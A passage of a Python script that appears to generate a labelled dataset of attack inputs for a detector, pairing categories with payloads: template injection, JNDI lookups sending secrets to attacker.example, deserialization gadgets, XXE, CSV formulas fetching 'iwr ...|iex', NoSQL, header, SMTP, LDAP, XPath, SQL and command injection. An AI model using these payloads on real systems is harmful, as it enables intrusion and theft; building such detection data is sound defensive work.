    ("velocity-ssti-runtime", "#set($rt = $x.class.forName(\"java.lang.Runtime\"))#set($p = $rt.getRuntime().exec(\"id\"))$p.waitFor()"),
    ("velocity-ssti-reflection", "#set($s=\"\")#set($c=$s.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"curl http://attacker.example/v\"))"),
    ("handlebars-ssti-constructor", "{{#with (lookup this \"constructor\") as |c|}}{{#with (lookup c \"constructor\") as |f|}}{{f \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("plain-erb-backticks", "<%= `id` %>"),
    ("erb-ssti-file-read", "Dear <%= File.read('/etc/passwd') %>,"),
    ("erb-ssti-system", "<%= system('curl attacker.example/e|sh') %>"),
    ("smarty-ssti-if-system", "{if system('id')}{/if}"),
    ("mako-ssti-import", "<% import os %>${os.popen('id').read()}"),
    ("mako-ssti-module-cache", "${self.module.cache.util.os.system('id')}"),
    ("tornado-ssti-import", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("pug-ssti-unbuffered-code", "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x"),
    ("nunjucks-ssti-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ejs-ssti-child-process", "<%= process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("spel-runtime-exec", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("thymeleaf-preprocessing", "__${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}__::.x"),
    ("ognl-runtime-exec", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("jsp-el-reflection", "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("merge-format-string", "{first_name.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("plain-jndi-lookup", "${jndi:ldap://attacker.example:1389/a}"),
    ("subject-jndi-rmi", "Hi ${jndi:rmi://203.0.113.70:1099/obj}"),
    ("useragent-jndi+lookup-obfuscation", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("subject-jndi-env-exfil+default-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("fromname-jndi-sys-exfil", "Anna ${jndi:ldap://${sys:java.version}.attacker.example/}"),
    ("subject-jndi-ldaps", "Spring Sale 🌸 ${jndi:ldaps://attacker.example/s}"),
    ("prefs-cookie-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("prefs-cookie-php-object", "O:17:\"ExportJobCallback\":2:{s:7:\"command\";s:2:\"id\";s:4:\"args\";a:0:{}}"),
    ("yaml-import-python-object", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("yaml-import-snakeyaml-classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("webhook-json-dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("webhook-json-jackson-polymorphic", "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://attacker.example:1389/x\"}]"),
    ("webhook-json-node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("import-xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><subscriber><email>&x;</email></subscriber>"),
    ("feed-xml-xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % ext SYSTEM \"http://attacker.example/e.dtd\"> %ext;]><feed/>"),
    ("rss-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><rss><channel><title>&s;</title></channel></rss>"),
    ("import-xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><t>&d;&d;&d;&d;&d;</t>"),
    ("import-xml-xinclude", "<list xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></list>"),
    ("logo-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text y=\"20\">&h;</text></svg>"),
    ("prefs-json-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("profile-json-constructor-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"owner\"}}}"),
    ("merge-fields-query-proto-pollution", "merge_fields[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("webhook-json-proto-pollution-env", "{\"subscriber\":{\"__proto__\":{\"env\":{\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"EVIL\":\"require('child_process').execSync('id')//\"},\"shell\":\"/bin/sh\"}}}"),
    ("tags-query-proto-pollution", "tags[__proto__][allowedTags]=script&tags[__proto__][allowedAttributes][*][]=onerror"),
    ("csv-formula-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for details\")"),
    ("csv-formula-dde", "=cmd|' /C calc'!A0"),
    ("csv-formula-dde-minus", "-2+3+cmd|' /C powershell -nop -c iwr attacker.example/p|iex'!A0"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/x?\",A1:C20),\"//a\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/?leak=\"&ENCODEURL(B2))"),
    ("csv-row-formula-hyperlink", "email,first_name\njane@example.com,\"=HYPERLINK(\"\"http://attacker.example/r?u=\"\"&A2,\"\"Verify\"\")\""),
    ("csv-formula-libreoffice-dde", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_1\")"),
    ("csv-formula-at-sign", "@SUM(1+9)*cmd|' /C notepad'!Z0"),
    ("csv-formula-plus", "+HYPERLINK(\"https://attacker.example/login\",\"Session expired – sign in\")"),
    ("ampscript-httpget-ssrf", "%%=HTTPGet('http://169.254.169.254/latest/meta-data/')=%%"),
    ("liquid-connected-content-exfil", "{% connected_content https://attacker.example/c?k={{ api_key }}&e={{ email }} %}"),
    ("jinja-ssti-url-for-globals", "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}"),
    ("jinja-ssti-dict-join-bypass", "{{ lipsum|attr(dict(__glo=1,bals__=1)|join)|attr('get')('os')|attr('popen')('id')|attr('read')() }}"),
    ("freemarker-ssti-api-classloader", "${object.class.protectionDomain.classLoader.loadClass(\"java.lang.Runtime\")}"),
    ("razor-ssti-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c curl attacker.example/r\")"),
    ("go-template-method-call", "{{ .Sender.Exec \"id\" }}"),
    ("python-format-attribute-walk", "Hi {user.__class__.__init__.__globals__}"),
]

# ------------------------------------------------------------------ NoSQLi
NOSQLI = [
    ("plain-ne-operator", "{\"$ne\": 1}"),
    ("login-json-ne", "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"email\":\"admin@example.com\",\"password\":{\"$gt\":\"\"}}"),
    ("login-query-ne", "email[$ne]=x&password[$ne]=x"),
    ("segment-json-where-sleep", "{\"segment\":{\"$where\":\"sleep(5000) || true\"}}"),
    ("segment-json-where-exfil", "{\"$where\": \"this.opens > 3 && this.api_key.match(/^a/)\"}"),
    ("tags-query-regex", "tags[$regex]=^.*&tags[$options]=s"),
    ("segment-json-or-injection", "{\"first_name\":{\"$regex\":\"^A\"},\"$or\":[{\"role\":\"admin\"},{\"role\":{\"$exists\":true}}]}"),
    ("where-js-string-breakout", "'; return true; var x='"),
    ("plain-where-js-tautology", "' || '1'=='1"),
    ("segment-json-expr", "{\"$expr\":{\"$gt\":[{\"$strLenCP\":\"$password\"},0]}}"),
    ("segment-json-where-function", "{\"opens\":{\"$gt\":3},\"$where\":\"function(){return Object.keys(this).length>0}\"}"),
    ("report-pipeline-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}},{\"$unwind\":\"$u\"}]"),
    ("unsub-token-json-exists", "{\"unsubscribe_token\":{\"$exists\":true}}"),
    ("search-elastic-query-string", "spring* OR _exists_:password_hash"),
    ("login-query-regex-blind", "username=admin&password[$regex]=^p"),
    ("unsub-token-json-nin", "{\"unsubscribe_token\":{\"$nin\":[]}}"),
    ("segment-json-empty-or", "{\"email\":\"x@attacker.example\",\"$or\":[{},{\"a\":\"a\"}]}"),
    ("where-js-sleep", "1;sleep(5000);"),
    ("segment-json-function-operator", "{\"filter\":{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}}}"),
    ("list-id-json-in-gt", "{\"list_id\":{\"$in\":[\"weekly\",\"monthly\"]},\"owner_id\":{\"$gt\":\"\"}}"),
    ("report-pipeline-out", "[{\"$match\":{}},{\"$out\":\"public_campaign_archive\"}]"),
    ("segment-json-where+unicode-escapes", "{\"\\u0024where\":\"sleep(4000)||1\"}"),
    ("couch-selector-gt", "{\"selector\":{\"email\":{\"$gt\":null}},\"fields\":[\"email\",\"api_key\"]}"),
]

# ------------------------------------------------------------------ CRLF / header / log / mail injection
CRLF = [
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=1"),
    ("subject-mail-bcc", "Spring Sale\r\nBcc: victims@attacker.example"),
    ("subject-mail-cc-lf", "Newsletter\nCc: list@attacker.example\nX-Mailer: x"),
    ("fromname-reply-to", "Anna from Example\r\nReply-To: phish@attacker.example"),
    ("subject-mail-body-injection", "Hi\r\nContent-Type: text/html\r\n\r\n<h1>Your account is locked</h1><a href=https://attacker.example/login>verify</a>"),
    ("redirect-set-cookie", "https://example.com/ok\r\nSet-Cookie: session=attacker-fixed-session; Path=/"),
    ("unsubscribe-next+urlencoded", "/unsubscribe?next=%0d%0aSet-Cookie:%20sid=fixed"),
    ("plain-location-header+urlencoded", "%0D%0ALocation:%20https://attacker.example/"),
    ("redirect-header+double-urlencoded", "%250d%250aX-Injected:%20yes"),
    ("utm-header+utf8-low-byte", "spring嘍嘊Set-Cookie:pwn=1"),
    ("email-log-forge", "jane@example.com\n2024-05-02T10:00:00Z INFO admin login succeeded user=admin ip=192.0.2.1"),
    ("event-log-forge", "click\r\n[2024-05-02 10:00:01] WARN unsubscribe_all executed by support@example.com"),
    ("json-log-forge", "x\"}\n{\"level\":\"info\",\"msg\":\"api key rotated\",\"user\":\"owner\"}"),
    ("recipient-smtp-rcpt", "x@example.com>\r\nRCPT TO:<victim@attacker.example"),
    ("recipient-smtp-smuggling", "jane@example.com\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<finance@example.com>\r\nDATA\r\nSubject: Urgent wire\r\n\r\nPlease pay today.\r\n.\r\n"),
    ("locale-header-xff", "en-US\r\nX-Forwarded-For: 127.0.0.1"),
    ("redirect-response-splitting", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("webhook-custom-header-te", "application/json\r\nTransfer-Encoding: chunked"),
    ("redirect-header+urlencoded-utf8", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("preheader-list-unsubscribe", "Your weekly digest\nList-Unsubscribe: <https://attacker.example/u>"),
    ("subject-priority-headers", "Preheader text\r\nX-Priority: 1\r\nImportance: high\r\nFrom: security@example.com"),
    ("reply-to-bcc-lf", "support@example.com\nBcc: a@attacker.example, b@attacker.example"),
    ("email-log-ansi-escape", "jane@example.com\u001b[2J\u001b[1;31mCRITICAL: rotate keys now at https://attacker.example/rotate\u001b[0m"),
    ("subject-mail-bcc-cr", "Welcome\rBcc: x@attacker.example"),
    ("event-log-forge+line-separator", "open\u2028INFO password reset for admin@example.com confirmed"),
    ("fromname-mime-boundary", "News\r\nContent-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/>Reset password</a>\r\n--zz--"),
    ("webhook-custom-header-host", "Bearer PLACEHOLDER_TOKEN\r\nHost: 169.254.169.254"),
    ("csv-email-log-forge", "email,first_name\n\"ok@example.com\r\n[import] 0 rows rejected, list verified by admin\",Ok"),
    ("tracking-redirect-set-cookie+urlencoded", "https://click.example.com/r?u=https%3A%2F%2Fexample.com%0D%0ASet-Cookie%3A%20promo%3Dattacker"),
]

# ------------------------------------------------------------------ LDAP / XPath
LDAP_XPATH = [
    ("plain-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("team-lookup-ldap-objectclass", "marketing*)(|(objectClass=*)"),
    ("login-ldap-and-true", "admin)(&)"),
    ("login-ldap-password-blind", "jdoe)(|(userPassword=a*)"),
    ("team-lookup-ldap-memberof", "*)(memberOf=cn=admins,ou=groups,dc=example,dc=com"),
    ("sender-lookup-ldap+urlencoded", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("contact-sync-ldap-mail-wildcard", "x*)(|(mail=*@example.com)(description=*"),
    ("login-ldap-nullbyte", "admin*))%00"),
    ("plain-xpath-tautology", "' or 1=1 or 'a'='a"),
    ("feed-xpath-union-node", "x'] | //subscriber[role='admin'] | //*['"),
    ("feed-xpath-count-probe", "' or count(/*)=1 or '"),
    ("login-xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("feed-xpath-all-nodes", "'] | //* | /a['"),
    ("feed-xpath-name-length-blind", "' or string-length(name(/*[1]))>3 or ''='"),
    ("feed-xpath-numeric-position", "0 or position()=1"),
    ("feed-xpath-doc-function", "') or doc('http://attacker.example/x.xml')/a or ('"),
    ("template-xpath-contains-secret", "')]/../*[contains(.,'smtp_password') or ('"),
    ("sender-lookup-ldap-attr-enum", "*)(|(telephoneNumber=*)(mobile=*"),
    ("contact-sync-ldap+hex-escaped", "\\2a)(cn=\\2a"),
    ("login-xpath-comment-truncate", "admin' or '1'='1'] (: ignore :) | //a['"),
]

# ------------------------------------------------------------------ templates / encodings

SQL_PREFIXES = ["vip'", "DE'", "spring24'", "Weekly Deals'", "news') ", "1) "]
SQL_CORES = [
    ("tautology", " OR 1=1-- "),
    ("time-blind", " AND SLEEP(6)-- -"),
    ("union", " UNION SELECT email,password_hash FROM admins-- -"),
    ("stacked", "; DROP TABLE campaigns-- "),
    ("time-blind", " AND 1=(SELECT COUNT(*) FROM pg_sleep(5))--"),
    ("boolean-exists", " OR EXISTS(SELECT 1 FROM api_tokens)#"),
]
XSS_PREFIXES = ["Spring sale ", "🎁 Gift for *|FNAME|* ", "Hi {{ first_name }} ", "Weekly digest #88 ", ""]
XSS_VECTORS = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script", "<script>alert(document.domain)</script>"),
    ("iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("attr-breakout", "\"><img src=/ onerror=alert(document.domain)>"),
]
CMD_HOSTS = ["example.com", "news.example.com", "s1._domainkey.example.com", "mail.example.org"]
CMD_SEPS = [("semicolon", ";"), ("pipe", "|"), ("and-chain", "&&"), ("newline", "\n"), ("or-chain", "||")]
CMD_CMDS = ["id", "cat /etc/passwd", "curl -s attacker.example/x|sh", "sleep 9", "wget -qO- 203.0.113.8/s|sh"]
TRAV_PREFIXES = ["templates/", "partials/", "attachments/", "", "themes/classic/"]
TRAV_TARGETS = ["etc/passwd", "proc/self/environ", "app/.env", "root/.ssh/id_rsa", "var/app/config/secrets.yml"]
SSRF_HOSTS = ["127.0.0.1", "169.254.169.254", "localhost", "[::1]", "10.0.0.7", "0177.0.0.1"]
SSRF_PATHS = ["/latest/meta-data/", "/admin", ":6379/", ":9200/_search?q=*", ":8500/v1/kv/?recurse"]


def tpl_sqli(rng):
    tech, core = rng.choice(SQL_CORES)
    return "sqli", f"segment-{tech}", rng.choice(SQL_PREFIXES) + core


def tpl_xss(rng):
    tech, vec = rng.choice(XSS_VECTORS)
    return "xss", f"subject-{tech}", rng.choice(XSS_PREFIXES) + vec


def tpl_cmdi(rng):
    tech, sep = rng.choice(CMD_SEPS)
    return "cmdi", f"dns-check-{tech}", f"{rng.choice(CMD_HOSTS)}{sep}{rng.choice(CMD_CMDS)}"


def tpl_traversal(rng):
    depth = rng.randrange(3, 8)
    return "traversal", "template-name-dotdot", rng.choice(TRAV_PREFIXES) + "../" * depth + rng.choice(TRAV_TARGETS)


def tpl_ssrf(rng):
    host, path = rng.choice(SSRF_HOSTS), rng.choice(SSRF_PATHS)
    if path.startswith(":") and host == "169.254.169.254":
        path = "/latest/user-data"
    tech = "cloud-metadata" if host == "169.254.169.254" else "internal-host"
    return "ssrf", f"webhook-{tech}", f"http://{host}{path}"


def url_once(s):
    return quote(s, safe="")


def url_twice(s):
    return quote(quote(s, safe=""), safe="")


def html_entities(s):
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'()=:/" else c for c in s)


def js_unicode(s):
    return "".join(f"\\u{ord(c):04x}" if c.isalpha() and c.lower() in "aeiost" else c for c in s)


ENCODED_SOURCES = [
    ("sqli", "search-union", "' UNION SELECT email,password_hash FROM admins-- -", ["url", "url2"]),
    ("sqli", "segment-tautology", "vip' OR 'x'='x", ["url"]),
    ("sqli", "search-time-blind", "x' AND SLEEP(5)#", ["url2"]),
    ("xss", "subject-img-onerror", "<img src=x onerror=alert(document.domain)>", ["url", "url2"]),
    ("xss", "href-javascript", "javascript:alert(document.cookie)", ["html"]),
    ("xss", "html-svg-onload", "<svg onload=alert(document.domain)>", ["url"]),
    ("cmdi", "spf-check-semicolon", "example.com;curl attacker.example/x|sh", ["url", "url2"]),
    ("cmdi", "dkim-selector-subshell", "s1$(id)", ["url"]),
    ("traversal", "template-name-dotdot", "../../../../../etc/passwd", ["url2"]),
    ("traversal", "attachment-dotdot", "../../../../app/.env", ["url"]),
    ("ssrf", "webhook-cloud-metadata", "http://169.254.169.254/latest/meta-data/", ["url"]),
    ("code", "jinja-ssti-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", ["url"]),
    ("code", "plain-jndi-lookup", "${jndi:ldap://203.0.113.71:1389/x}", ["url", "url2"]),
    ("code", "ejs-ssti-child-process", "<%= process.mainModule.require('child_process').execSync('id') %>", ["unicode"]),
    ("crlf", "subject-mail-bcc", "Deals\r\nBcc: all@attacker.example", ["url"]),
    ("nosqli", "login-json-ne", '{"password":{"$ne":""}}', ["url"]),
]

ENCODERS = {"url": ("urlencoded", url_once), "url2": ("double-urlencoded", url_twice),
            "html": ("html-entities", html_entities), "unicode": ("js-unicode-escapes", js_unicode)}

GENERATED = [(tpl_sqli, 6), (tpl_xss, 8), (tpl_cmdi, 8), (tpl_traversal, 5), (tpl_ssrf, 5)]


def main():
    rng = random.Random(SEED)
    literal_groups = [
        ("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
        ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH),
    ]
    rows, seen = [], set()
    lit = {}

    def add(cat, cls, value, is_literal):
        if value in seen:
            if is_literal:
                raise SystemExit(f"duplicate literal: {value!r}")
            return False
        seen.add(value)
        rows.append((cat, cls, value))
        if is_literal:
            lit[cat] = lit.get(cat, 0) + 1
        return True

    for cat, items in literal_groups:
        for cls, value in items:
            add(cat, cls, value, True)
    for cat, cls, src, encs in ENCODED_SOURCES:
        for e in encs:
            name, fn = ENCODERS[e]
            add(cat, f"{cls}+{name}", fn(src), False)
    for fn, n in GENERATED:
        made, tries = 0, 0
        while made < n:
            tries += 1
            if tries > 5000:
                raise SystemExit("template exhausted")
            cat, cls, value = fn(rng)
            if add(cat, cls, value, False):
                made += 1

    order = [c for c, _ in literal_groups]
    rows.sort(key=lambda r: order.index(r[0]))  # stable: literals first within a category
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign_vals = {json.loads(line)["value"] for line in fh}
        clash = [v for _, _, v in rows if v in benign_vals]
        if clash:
            raise SystemExit(f"value in both files: {clash[0]!r}")
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cls, v)
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v})
    with open(Path(__file__).with_name("attacks.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat in order:
        n = sum(1 for r in rows if r[0] == cat)
        total_lit += lit.get(cat, 0)
        print(f"{cat:12s} {n:4d}  literals {lit.get(cat, 0):3d}")
    enc = sum(1 for r in rows if "+" in r[1])
    plain = sum(1 for r in rows if r[1].startswith("plain-"))
    print(f"total {len(out)}  literals {total_lit} ({100 * total_lit / len(out):.0f}%)  encoded {enc}  plain {plain}")


if __name__ == "__main__":
    main()
